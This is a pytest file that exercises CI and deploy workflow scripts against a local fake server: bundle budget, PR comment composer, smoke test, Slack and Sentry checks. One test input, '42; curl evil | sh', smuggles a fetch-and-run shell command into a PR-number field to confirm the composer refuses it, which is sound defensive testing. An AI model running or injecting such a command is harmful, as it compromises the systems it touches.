"""The scripts inside the workflows, run for real on this machine: the bundle budget, the
plan-diff comment composer, the smoke test, the Slack notification and the Sentry error-rate
watch. Network use is a local HTTP server on 127.0.0.1 standing in for the site, Slack and
Sentry; ``sleep`` is replaced by a recorder so retry loops run at once (and their bounds show).

Each script is taken from the shipped workflow file, so these tests break when the workflow's
script changes in a way that breaks its behaviour.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable, Mapping
from datetime import datetime, timezone
from pathlib import Path
from typing import Optional

import pytest

from tests.workflows.runner import LocalServer, Recorded, Runner, step
from tests.workflows.shared import APP_WORKFLOWS, OWN_WORKFLOWS, load_yaml

CI = APP_WORKFLOWS / "ci.yml"
DEPLOY = APP_WORKFLOWS / "deploy.yml"
PR_COMMENT = OWN_WORKFLOWS / "pr-comment.yml"
GITHUB_COMMENT_LIMIT = 65_536


# --- bundle budget (ci.yml, build job) -----------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "ok", "expected"),
    [
        ({"dist/assets/index.js": 150_000, "dist/assets/index.css": 20_000, "dist-staging/assets/index.js": 150_000}, True, "170000 bytes"),
        ({"dist/assets/vendor.js": 600_000, "dist-staging/assets/index.js": 1_000}, False, "over the bundle budget"),
        ({"dist/assets/index.js": 1_000, "dist/assets/index.js.map": 900_000, "dist-staging/assets/index.js": 1_000}, True, "1000 bytes"),
        ({"dist/index.html": 500, "dist-staging/assets/index.js": 1_000}, False, "holds no JavaScript or CSS"),
    ],
    ids=["under-budget", "over-budget", "source-maps-not-counted", "no-assets"],
)
def test_bundle_budget(runner: Runner, files: dict[str, int], ok: bool, expected: str) -> None:
    for name, size in files.items():
        path = runner.workdir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(os.urandom(size))
    budget = load_yaml(CI)["jobs"]["build"]["env"]["BUNDLE_BUDGET_BYTES"]
    assert budget == str(512 * 1024)
    result = runner.run(step(CI, "build", "Check the bundle budget (fail over 512 KB)")["run"], {"BUNDLE_BUDGET_BYTES": budget})
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert expected in result.stdout
    assert "budget 524288" in (runner.workdir / "step_summary").read_text(encoding="utf-8")


# --- plan-diff comment composer (pr-comment.yml) -------------------------------------------------

HEAD = "89abcdef0123456789abcdef0123456789abcdef"


def compose(runner: Runner, files: Mapping[str, str], head: str = HEAD, symlink: Optional[str] = None) -> subprocess.CompletedProcess[str]:
    artifact = runner.workdir / "artifact"
    artifact.mkdir(exist_ok=True)
    for name, text in files.items():
        (artifact / name).write_text(text, encoding="utf-8")
    if symlink:
        (artifact / symlink).symlink_to("/etc/hostname")
    script = step(PR_COMMENT, "comment", "Validate the artifact and compose the comment")
    assert script["shell"] == "python"
    return runner.run(script["run"], {"ARTIFACT_DIR": str(artifact), "RUN_HEAD_SHA": head}, shell="python")


VALID_ARTIFACT = {"pr-number.txt": "42\n", "head-sha.txt": HEAD + "\n", "staging.md": "| + | x |\n", "production.md": "no changes\n"}


def test_composer_writes_one_marked_comment(runner: Runner) -> None:
    result = compose(runner, VALID_ARTIFACT)
    assert result.returncode == 0, result.stderr
    outputs = runner.outputs()
    assert outputs["pr_number"] == "42"
    body = Path(outputs["body_file"]).read_text(encoding="utf-8")
    assert body.startswith("<!-- webapp-platform:plan-diff -->\n")
    assert "<b>staging</b>" in body and "| + | x |" in body and "<b>production</b>" in body


def test_composer_caps_the_comment_size(runner: Runner) -> None:
    result = compose(runner, {**VALID_ARTIFACT, "staging.md": "x" * 150_000, "production.md": "y" * 150_000})
    assert result.returncode == 0, result.stderr
    body = Path(runner.outputs()["body_file"]).read_text(encoding="utf-8")
    assert len(body) < GITHUB_COMMENT_LIMIT
    assert body.count("(truncated;") == 2


@pytest.mark.parametrize(
    ("files", "head", "symlink", "reason"),
    [
        ({**VALID_ARTIFACT, "pr-number.txt": "42; curl evil | sh"}, HEAD, None, "pull-request number"),
        ({**VALID_ARTIFACT, "pr-number.txt": "0"}, HEAD, None, "pull-request number"),
        ({**VALID_ARTIFACT, "pr-number.txt": "-1"}, HEAD, None, "pull-request number"),
        (VALID_ARTIFACT, "f" * 40, None, "does not match the commit"),
        ({k: v for k, v in VALID_ARTIFACT.items() if k != "production.md"}, HEAD, "production.md", "not a regular file"),
        ({k: v for k, v in VALID_ARTIFACT.items() if k != "staging.md"}, HEAD, None, "staging.md is missing"),
    ],
    ids=["injection", "zero", "negative", "head-mismatch", "symlink", "missing-file"],
)
def test_composer_refuses_untrusted_input(
    runner: Runner, files: dict[str, str], head: str, symlink: Optional[str], reason: str
) -> None:
    result = compose(runner, files, head=head, symlink=symlink)
    assert result.returncode != 0
    assert reason in result.stderr
    assert "body_file" not in runner.outputs()


# --- smoke test (deploy.yml, both jobs) ----------------------------------------------------------

ENTRY = '<script type="module" crossorigin src="/assets/index-NEW.js"></script>'


@pytest.mark.parametrize("job_id", ["staging", "production"])
@pytest.mark.parametrize(
    ("served_index", "asset_status", "ok", "sleeps"),
    [
        (ENTRY, 200, True, 0),
        (ENTRY.replace("NEW", "OLD"), 200, False, 10),
        (ENTRY, 404, False, 0),
    ],
    ids=["new-build-live", "old-build-stays", "entry-asset-missing"],
)
def test_smoke_test(
    runner: Runner, local_server: Callable[..., LocalServer], job_id: str, served_index: str, asset_status: int, ok: bool, sleeps: int
) -> None:
    built = runner.workdir / ".vercel" / "output" / "static" / "index.html"
    built.parent.mkdir(parents=True)
    built.write_text(f"<html><head>{ENTRY}</head></html>", encoding="utf-8")

    def site(request: Recorded) -> tuple[int, bytes]:
        if request.path == "/":
            return 200, f"<html><head>{served_index}</head></html>".encode()
        return (asset_status, b"console.log(1)") if request.path == "/assets/index-NEW.js" else (404, b"")

    server = local_server(site)
    result = runner.run(step(DEPLOY, job_id, "Smoke test")["run"], {"APP_URL": server.url + "/"})
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert len(runner.sleeps()) == sleeps
    if not ok and sleeps:
        assert "did not serve the new build after 10 attempts" in result.stdout


# --- Slack notification (deploy.yml, both jobs) --------------------------------------------------


@pytest.mark.parametrize(("job_id", "status", "icon"), [("staging", "success", ":white_check_mark:"), ("production", "failure", ":x:")])
def test_slack_notification(runner: Runner, local_server: Callable[..., LocalServer], job_id: str, status: str, icon: str) -> None:
    server = local_server(lambda request: (200, b"ok"))
    notify = step(DEPLOY, job_id, "Notify Slack")
    env = {
        "SLACK_WEBHOOK_URL": f"{server.url}/services/T000/B000/XXXX",
        "JOB_STATUS": status,
        "TARGET": notify["env"]["TARGET"],
        "APP_URL": "https://example.com",
        "DEPLOY_URL": "https://webapp-abc.vercel.app",
    }
    result = runner.run(notify["run"], env)
    assert result.returncode == 0, result.stderr
    (request,) = server.requests
    assert request.method == "POST" and request.headers["Content-Type"] == "application/json"
    text = json.loads(request.body)["text"]
    assert text.startswith(icon)
    assert f"to {job_id}: {status}" in text
    assert "/services/T000" not in text, "the webhook URL is a secret"


# --- Sentry error-rate watch (deploy.yml, production) --------------------------------------------

DEPLOYED_EPOCH = 1_790_000_000
DEPLOYED_ISO = datetime.fromtimestamp(DEPLOYED_EPOCH, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def sentry(baseline: int, after: int, token: str) -> Callable[[Recorded], tuple[int, bytes]]:
    """A fake Sentry API: project lookup, and error counts before/after the deploy."""

    def respond(request: Recorded) -> tuple[int, bytes]:
        if request.headers.get("Authorization") != f"Bearer {token}":
            return 401, b'{"detail": "unauthorized"}'
        if request.path == "/api/0/projects/acme/webapp-production/":
            return 200, json.dumps({"id": "4242", "slug": "webapp-production"}).encode()
        if request.path == "/api/0/organizations/acme/events/":
            query = {key: values[0] for key, values in request.query.items()}
            expected = {"field": "count()", "project": "4242", "environment": "production", "query": "event.type:error"}
            if any(query.get(k) != v for k, v in expected.items()):
                return 400, json.dumps({"detail": f"unexpected query {query}"}).encode()
            before = query["end"] == DEPLOYED_ISO  # the span that ends when the deploy started
            if not before and query["start"] != DEPLOYED_ISO:
                return 400, json.dumps({"detail": f"watch must count from the deploy, not {query['start']}"}).encode()
            return 200, json.dumps({"data": [{"count()": baseline if before else after}]}).encode()
        return 404, b"{}"

    return respond


@pytest.mark.parametrize(
    ("baseline", "after", "ok", "minutes"),
    [(0, 3, True, 5), (0, 50, False, 1), (1200, 30, True, 5), (1200, 500, False, 1)],
    ids=["quiet", "error-burst", "busy-app-normal-rate", "busy-app-spike"],
)
def test_sentry_error_rate_watch(
    runner: Runner, local_server: Callable[..., LocalServer], baseline: int, after: int, ok: bool, minutes: int
) -> None:
    token = "sntryu_test_token"  # a made-up value for the fake server
    server = local_server(sentry(baseline, after, token))
    watch = step(DEPLOY, "production", "Watch the Sentry error rate for 5 minutes")
    env = {
        "SENTRY_API": f"{server.url}/api/0",
        "SENTRY_AUTH_TOKEN": token,
        "SENTRY_ORG": "acme",
        "SENTRY_PROJECT": "webapp-production",
        "SENTRY_ENVIRONMENT": "production",
        "DEPLOY_STARTED_EPOCH": str(DEPLOYED_EPOCH),
        "MIN_ERRORS_TO_FAIL": watch["env"]["MIN_ERRORS_TO_FAIL"],
    }
    result = runner.run(watch["run"], env)
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert runner.sleeps() == ["60"] * minutes
    assert all(request.path != "/" for request in server.requests)
    assert token not in result.stdout + result.stderr
    if not ok:
        assert "error rate after the deploy is too high" in result.stdout
